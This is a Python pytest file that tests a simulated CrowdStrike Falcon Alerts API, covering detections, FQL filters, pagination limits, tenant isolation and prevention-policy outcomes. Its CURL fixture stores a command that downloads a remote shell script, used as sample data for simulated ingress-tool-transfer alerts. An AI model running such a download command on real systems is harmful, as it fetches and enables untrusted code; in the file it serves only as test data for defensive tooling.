"""fleetsim's Falcon Alerts API through FalconPy's ``Alerts`` (``query_alerts_v2``, ``get_alerts_v2``).

Covers the scenario's detections (chosen hosts, processes and times, past and future), the
``detection_storm`` fault on an environment, the alert's fields, FQL filters, sort, ``q`` and the limits,
unknown composite ids, per-CID visibility, the disposition following the prevention policy applied on the
sensor, the control plane's ``POST /fleetsim/falcon/detections``, and the scenario's validation.
"""

from __future__ import annotations

import json
import urllib.error
import urllib.request
from typing import Any

import pytest
from falconpy import Alerts, HostGroup, Hosts, PreventionPolicy
from fleetsim_testkit import Fleet, group, scenario_dict, wait_for

from fleetsim.scenario import ScenarioError, parse_scenario
from fleetsim.seed import falcon_cid

SECRET = "fleetsim-falcon-secret"
KERNEL = "5.15.0-119-generic"
SSM_AGENT = {
    "filename": "amazon-ssm-agent",
    "filepath": "/usr/bin/amazon-ssm-agent",
    "cmdline": "/usr/bin/amazon-ssm-agent",
    "user_name": "root",
}
SYSTEMD = {"filename": "systemd", "filepath": "/usr/lib/systemd/systemd", "cmdline": "/sbin/init"}
CURL = {"filename": "curl", "filepath": "/usr/bin/curl", "cmdline": "curl -s http://198.51.100.7/x.sh"}

SCENARIO = scenario_dict(
    tenants=[
        {
            "id": "t_al",
            "aws": {
                "account_id": "131313131313",
                "region": "us-east-1",
                "groups": [
                    group("web", 3, "ubuntu_22_04", kernel=KERNEL, environment="nonprod"),
                    group("app", 3, "ubuntu_22_04", kernel=KERNEL),
                    group("pv", 2, "ubuntu_22_04", kernel=KERNEL),
                    group("nos", 1, "ubuntu_22_04", kernel=KERNEL, environment="nonprod", falcon_sensor=None),
                ],
            },
            "detections": [
                {
                    "host": "web-01",
                    "at_seconds": -3600,
                    "count": 2,
                    "every_seconds": 60,
                    "process": SSM_AGENT,
                    "parent": SYSTEMD,
                    "kind": "machine_learning",
                },
                {
                    "host": "app-01",
                    "at_seconds": -1800,
                    "process": CURL,
                    "severity": 90,
                    "tactic": "Command and Control",
                    "tactic_id": "TA0011",
                    "technique": "Ingress Tool Transfer",
                    "technique_id": "T1105",
                    "pattern_id": 50102,
                },
                {"host": "web-02", "at_seconds": 1.5, "process": CURL},
                {"host": "nos-01", "at_seconds": -10, "process": CURL},
            ],
            "faults": {
                "detection_storm": {
                    "environment": "nonprod",
                    "at_seconds": 2.0,
                    "per_host": 4,
                    "spread_seconds": 3.0,
                }
            },
        },
        {
            "id": "t_oth",
            "gcp": {
                "project_id": "proj-oth",
                "groups": [group("gce", 1, "ubuntu_22_04", kernel=KERNEL, zone="us-central1-a")],
            },
            "detections": [{"host": "gce-01", "at_seconds": -100, "process": CURL}],
        },
    ],
    catalog=[],
    falcon={
        "kernels": [
            {"release": KERNEL, "vendor": "ubuntu", "base_package_supported_sensor_versions": ["7.14.16703"]}
        ]
    },
)
SCENARIO["timings"]["falcon_policy_apply_seconds"] = 0.5


def client(fleet: Fleet, client_id: str = "t_al", **kw: Any) -> Hosts:
    return Hosts(client_id=client_id, client_secret=SECRET, base_url=fleet.url, timeout=10, **kw)


@pytest.fixture(scope="module")
def hosts(fleet: Fleet) -> Hosts:
    return client(fleet)


@pytest.fixture(scope="module")
def alerts(hosts: Hosts) -> Alerts:
    return Alerts(auth_object=hosts)


def ok(result: dict[str, Any], status: int = 200) -> list[Any]:
    assert result["status_code"] == status, result["body"]
    return result["body"]["resources"]


def find(alerts: Alerts, fql: str, **kw: Any) -> list[dict[str, Any]]:
    ids = ok(alerts.query_alerts_v2(filter=fql, limit=kw.pop("limit", 1000), **kw))
    return ok(alerts.get_alerts_v2(composite_ids=ids)) if ids else []


def aid(hosts: Hosts, name: str) -> str:
    [device_id] = ok(hosts.query_devices_by_filter(filter=f"hostname:'{name}'"))
    return device_id


def test_scenario_detections_are_epp_alerts(fleet: Fleet, hosts: Hosts, alerts: Alerts) -> None:
    found = find(alerts, "device.hostname:'web-01'+filename:'amazon-ssm-agent'")
    assert len(found) == 2
    newest, oldest = sorted(found, key=lambda a: a["created_timestamp"], reverse=True)
    assert newest["created_timestamp"] > oldest["created_timestamp"]
    alert = newest
    device_id = aid(hosts, "web-01")
    cid = falcon_cid("t_al")
    assert alert["composite_id"].startswith(f"{cid}:ind:{device_id}:")
    assert alert["id"] == alert["composite_id"].removeprefix(f"{cid}:") and alert["agent_id"] == device_id
    assert alert["device"]["device_id"] == device_id and alert["device"]["hostname"] == "web-01"
    assert alert["device"]["instance_id"] == fleet.truth("t_al")["web-01"]["host_id"]
    assert (alert["cid"], alert["product"], alert["type"], alert["status"]) == (cid, "epp", "ldt", "new")
    assert (alert["severity"], alert["severity_name"]) == (50, "Medium")
    assert (alert["filename"], alert["filepath"], alert["cmdline"]) == (
        "amazon-ssm-agent",
        "/usr/bin/amazon-ssm-agent",
        "/usr/bin/amazon-ssm-agent",
    )
    assert alert["user_name"] == "root"
    assert (
        alert["parent_details"]["filename"] == "systemd"
        and alert["parent_details"]["cmdline"] == "/sbin/init"
    )
    assert alert["tactic"] == "Machine Learning" and alert["technique_id"]
    assert alert["pattern_disposition"] == 0
    assert alert["pattern_disposition_description"] == "Detection, standard detection."
    assert not any(alert["pattern_disposition_details"].values())
    for key in ("aggregate_id", "timestamp", "updated_timestamp", "confidence", "mitre_attack", "platform"):
        assert key in alert
    [curl] = find(alerts, "device.hostname:'app-01'")
    assert (curl["severity_name"], curl["tactic_id"], curl["technique"], curl["pattern_id"]) == (
        "Critical",
        "TA0011",
        "Ingress Tool Transfer",
        50102,
    )


def test_query_filters_sort_and_search(alerts: Alerts) -> None:
    critical = find(alerts, "severity:>=90")
    assert [a["device"]["hostname"] for a in critical] == ["app-01"]
    ids = ok(
        alerts.query_alerts_v2(
            filter="product:'epp'+filename:['amazon-ssm-agent','curl']", sort="created_timestamp|asc"
        )
    )
    rows = ok(alerts.get_alerts_v2(composite_ids=ids))
    stamps = [next(r["created_timestamp"] for r in rows if r["composite_id"] == i) for i in ids]
    assert stamps == sorted(stamps)
    assert len(ok(alerts.query_alerts_v2(q="SSM-AGENT"))) == 2
    assert ok(alerts.query_alerts_v2(filter="device.hostname:'app-02'")) == []
    newest_first = ok(alerts.query_alerts_v2(filter="filename:'amazon-ssm-agent'"))
    by_id = {a["composite_id"]: a for a in ok(alerts.get_alerts_v2(composite_ids=newest_first))}
    assert by_id[newest_first[0]]["created_timestamp"] > by_id[newest_first[1]]["created_timestamp"]
    page = alerts.query_alerts_v2(filter="filename:'amazon-ssm-agent'", limit=1, offset=1)
    assert ok(page) == newest_first[1:] and page["body"]["meta"]["pagination"]["total"] == 2


def test_query_and_get_refusals(alerts: Alerts, hosts: Hosts, fleet: Fleet) -> None:
    assert "limit" in alerts.query_alerts_v2(limit=10001)["body"]["errors"][0]["message"]
    result = alerts.query_alerts_v2(limit=20, offset=9990)
    assert result["status_code"] == 400 and "10000" in result["body"]["errors"][0]["message"]
    assert ok(alerts.query_alerts_v2(limit=0)) == []
    result = alerts.query_alerts_v2(filter="colour:'red'")
    assert result["status_code"] == 400 and "colour" in result["body"]["errors"][0]["message"]
    result = alerts.get_alerts_v2(composite_ids=[f"x:ind:{i}" for i in range(1001)])
    assert result["status_code"] == 400 and "1000" in result["body"]["errors"][0]["message"]
    [real] = ok(alerts.query_alerts_v2(filter="device.hostname:'app-01'"))
    result = alerts.get_alerts_v2(composite_ids=[real, "nope:ind:nope:1"])
    assert result["status_code"] == 200 and [a["composite_id"] for a in result["body"]["resources"]] == [real]
    assert (
        result["body"]["errors"][0]["code"] == 404 and result["body"]["errors"][0]["id"] == "nope:ind:nope:1"
    )
    req = urllib.request.Request(
        fleet.url + "/alerts/entities/alerts/v2",
        data=json.dumps({"composite_ids": []}).encode(),
        method="POST",
    )
    req.add_header("Authorization", f"Bearer {hosts.token}")
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(req, timeout=10)  # noqa: S310 - loopback
    assert refused.value.code == 400


def test_future_detection_appears_when_its_time_comes(alerts: Alerts) -> None:
    raised = wait_for(lambda: find(alerts, "device.hostname:'web-02'+filename:'curl'"), bool, timeout=15)
    assert len(raised) == 1 and raised[0]["tactic_id"] == "TA0002"  # the behavioural default


def test_detection_storm_hits_every_registered_device_of_the_environment(alerts: Alerts) -> None:
    storm = wait_for(
        lambda: ok(alerts.query_alerts_v2(filter="filename:'kdevtmpfsi'", limit=1000)),
        lambda ids: len(ids) >= 12,
        timeout=15,
    )
    rows = ok(alerts.get_alerts_v2(composite_ids=storm))
    per_host: dict[str, int] = {}
    for row in rows:
        per_host[row["device"]["hostname"]] = per_host.get(row["device"]["hostname"], 0) + 1
    assert per_host == {"web-01": 4, "web-02": 4, "web-03": 4}  # not prod, not the host without a sensor
    assert all(r["severity"] == 70 and r["severity_name"] == "High" for r in rows)
    assert len({r["created_timestamp"] for r in rows}) >= 2  # spread over three seconds


def test_no_sensor_no_alert(fleet: Fleet, alerts: Alerts) -> None:
    assert find(alerts, "device.hostname:'nos-01'") == []
    skipped = fleet.get("/fleetsim/falcon")["skipped_detections"]
    assert {"tenant": "t_al", "host": "nos-01", "reason": "no registered Falcon sensor"}.items() <= next(
        s for s in skipped if s["host"] == "nos-01"
    ).items()


def test_each_cid_sees_its_own_alerts(fleet: Fleet, alerts: Alerts) -> None:
    other = Alerts(auth_object=client(fleet, "t_oth"))
    theirs = find(other, "")
    assert [a["device"]["hostname"] for a in theirs] == ["gce-01"]
    assert find(alerts, "device.hostname:'gce-01'") == []
    assert (
        other.get_alerts_v2(composite_ids=ok(alerts.query_alerts_v2(filter="device.hostname:'app-01'")))[
            "body"
        ]["resources"]
        == []
    )
    parent = Alerts(auth_object=client(fleet, "fleetsim-falcon"))
    assert {a["device"]["hostname"] for a in find(parent, "device.hostname:['gce-01','app-01']")} == {
        "gce-01",
        "app-01",
    }


def test_disposition_follows_the_applied_prevention_policy(
    fleet: Fleet, hosts: Hosts, alerts: Alerts
) -> None:
    groups, prevention = HostGroup(auth_object=hosts), PreventionPolicy(auth_object=hosts)
    [grp] = ok(groups.create_host_groups(name="pv-prevent", group_type="staticByID"), 201)
    ok(
        groups.perform_group_action(
            action_name="add-hosts", ids=[grp["id"]], filter=f"device_id:['{aid(hosts, 'pv-01')}']"
        )
    )
    settings = [{"id": "PreventSuspiciousProcesses", "value": {"enabled": True}}]
    [policy] = ok(
        prevention.create_policies(name="pv-prevent", platform_name="Linux", settings=settings), 201
    )
    ok(
        prevention.perform_policies_action(
            action_name="add-host-group", ids=[policy["id"]], group_id=grp["id"]
        )
    )
    ok(prevention.perform_policies_action(action_name="enable", ids=[policy["id"]]))
    wait_for(
        lambda: ok(hosts.get_device_details(ids=[aid(hosts, "pv-01")]))[0]["device_policies"]["prevention"],
        lambda entry: entry["policy_id"] == policy["id"] and entry["applied"],
        timeout=15,
    )
    for host in ("pv-01", "pv-02"):
        status, answer = fleet.post_json(
            "/fleetsim/falcon/detections",
            {"tenant": "t_al", "host": host, "process": CURL, "pattern_id": 10300},
        )
        assert status == 200 and answer["scheduled"] == 1
    raised = wait_for(lambda: find(alerts, "pattern_id:10300"), lambda rows: len(rows) == 2, timeout=15)
    by_host = {a["device"]["hostname"]: a for a in raised}
    prevented = by_host["pv-01"]
    assert prevented["pattern_disposition"] == 2048
    assert prevented["pattern_disposition_description"] == "Prevention, process killed."
    assert prevented["pattern_disposition_details"]["kill_process"] is True
    assert by_host["pv-02"]["pattern_disposition"] == 0  # the default policy detects only
    # A scenario (or the control plane) may force the outcome whatever the policy.
    status, _ = fleet.post_json(
        "/fleetsim/falcon/detections",
        {"tenant": "t_al", "host": "pv-02", "process": CURL, "pattern_id": 10301, "disposition": "prevent"},
    )
    assert status == 200
    [forced] = wait_for(lambda: find(alerts, "pattern_id:10301"), bool, timeout=15)
    assert forced["pattern_disposition"] == 2048


def test_control_plane_refuses_what_is_not_a_detection(fleet: Fleet) -> None:
    assert (
        fleet.post_json(
            "/fleetsim/falcon/detections", {"tenant": "nobody", "host": "pv-01", "process": CURL}
        )[0]
        == 400
    )
    assert (
        fleet.post_json("/fleetsim/falcon/detections", {"tenant": "t_al", "host": "gce-01", "process": CURL})[
            0
        ]
        == 400
    )
    assert fleet.post_json("/fleetsim/falcon/detections", {"tenant": "t_al", "host": "pv-01"})[0] == 400
    assert fleet.post_json("/fleetsim/falcon/detections", ["not", "an", "object"])[0] == 400


def test_alert_calls_are_counted(fleet: Fleet, alerts: Alerts) -> None:
    before = fleet.calls()
    ids = ok(alerts.query_alerts_v2(limit=1))
    alerts.get_alerts_v2(composite_ids=ids)
    after = fleet.calls()
    assert after["falcon.GetQueriesAlertsV2"] - before.get("falcon.GetQueriesAlertsV2", 0) == 1
    assert after["falcon.PostEntitiesAlertsV2"] - before.get("falcon.PostEntitiesAlertsV2", 0) == 1


# -- the scenario's validation ------------------------------------------------------------------------
def _tenant(**extra: Any) -> dict[str, Any]:
    return {
        "id": "v",
        "aws": {
            "account_id": "141414141414",
            "region": "us-east-1",
            "groups": [group("h", 1, environment="qa")],
        },
        **extra,
    }


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ({"detections": [{"host": "zz-01", "process": CURL}]}, "detections.host: unknown hosts ['zz-01']"),
        ({"faults": {"detection_storm": {}}}, "exactly one of environment or host_group"),
        (
            {"faults": {"detection_storm": {"environment": "qa", "host_group": "g"}}},
            "exactly one of environment or host_group",
        ),
        ({"faults": {"detection_storm": {"environment": "prod"}}}, "no group of the tenant runs in 'prod'"),
        ({"faults": {"policy_never_applied": ["zz-02"]}}, "policy_never_applied: unknown hosts"),
        ({"detections": [{"host": "h-01", "process": CURL, "severity": 101}]}, "severity"),
    ],
)
def test_scenario_refuses_bad_detections(extra: dict[str, Any], message: str) -> None:
    with pytest.raises(ScenarioError, match=message.replace("[", r"\[").replace("]", r"\]")):
        parse_scenario(scenario_dict([_tenant(**extra)], []))
